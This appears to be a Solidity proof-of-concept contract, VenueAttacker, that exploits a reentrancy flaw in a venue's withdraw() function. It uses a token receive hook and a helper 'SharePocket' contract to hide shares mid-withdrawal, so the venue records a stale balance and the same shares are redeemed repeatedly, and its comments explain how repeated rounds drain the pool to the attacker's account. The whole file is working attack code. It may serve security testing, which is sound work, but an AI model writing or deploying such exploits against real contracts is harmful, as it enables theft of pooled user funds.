// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {CollateralToken, ITokenReceiver} from "./CollateralToken.sol";

interface IVenue {
    function deposit(uint256 assets) external returns (uint256);
    function withdraw(uint256 shares) external returns (uint256);
    function transferShares(address to, uint256 shares) external;
    function sharesOf(address provider) external view returns (uint256);
}

/// Holds the attacker's shares while withdraw() is paying for them.
contract SharePocket {
    address private immutable _owner;

    constructor() {
        _owner = msg.sender;
    }

    function give(IVenue venue, address to, uint256 shares) external {
        require(msg.sender == _owner, "pocket: not owner");
        venue.transferShares(to, shares);
    }
}

/// The attack on PerpVenueV1.withdraw(): deposit once (stake()), then every round of attack(n)
/// withdraws all the contract's shares; when the collateral arrives (the token's receive hook) the
/// same shares move to the pocket, withdraw() writes back its stale balance minus them, and the
/// pocket hands them back. Each round takes the stake's worth from the pool again; the loot goes to
/// the attacker's account after each transaction, so several transactions drain the pool.
contract VenueAttacker is ITokenReceiver {
    IVenue public immutable venue;
    IERC20 public immutable token;
    SharePocket public immutable pocket;
    address public immutable attacker;
    bool private _withdrawing;

    constructor(IVenue venue_, CollateralToken token_) {
        venue = venue_;
        token = token_;
        pocket = new SharePocket();
        attacker = msg.sender;
        token_.setReceiveHook(true);
    }

    /// Takes `amount` of the attacker's collateral (approved beforehand) and deposits it.
    function stake(uint256 amount) external {
        require(msg.sender == attacker, "not attacker");
        token.transferFrom(attacker, address(this), amount);
        token.approve(address(venue), amount);
        venue.deposit(amount);
    }

    function attack(uint256 rounds) external {
        require(msg.sender == attacker, "not attacker");
        for (uint256 i = 0; i < rounds; i++) {
            uint256 shares = venue.sharesOf(address(this));
            _withdrawing = true;
            venue.withdraw(shares);
            pocket.give(venue, address(this), shares);
        }
        token.transfer(attacker, token.balanceOf(address(this)));
    }

    function tokensReceived(address, address, uint256) external {
        if (msg.sender != address(token) || !_withdrawing) return;
        _withdrawing = false;
        venue.transferShares(address(pocket), venue.sharesOf(address(this)));
    }
}
